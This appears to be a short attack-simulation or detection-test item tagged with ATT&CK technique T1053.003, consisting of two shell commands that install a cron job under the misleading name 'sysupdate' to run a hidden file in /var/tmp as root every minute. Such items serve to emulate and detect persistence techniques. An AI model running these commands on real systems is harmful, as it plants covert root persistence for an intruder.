# title: A job is moved into /etc/cron.d
# technique: T1053.003
# short: yes

printf '* * * * * root /var/tmp/.u\n' >/tmp/job
mv /tmp/job /etc/cron.d/sysupdate
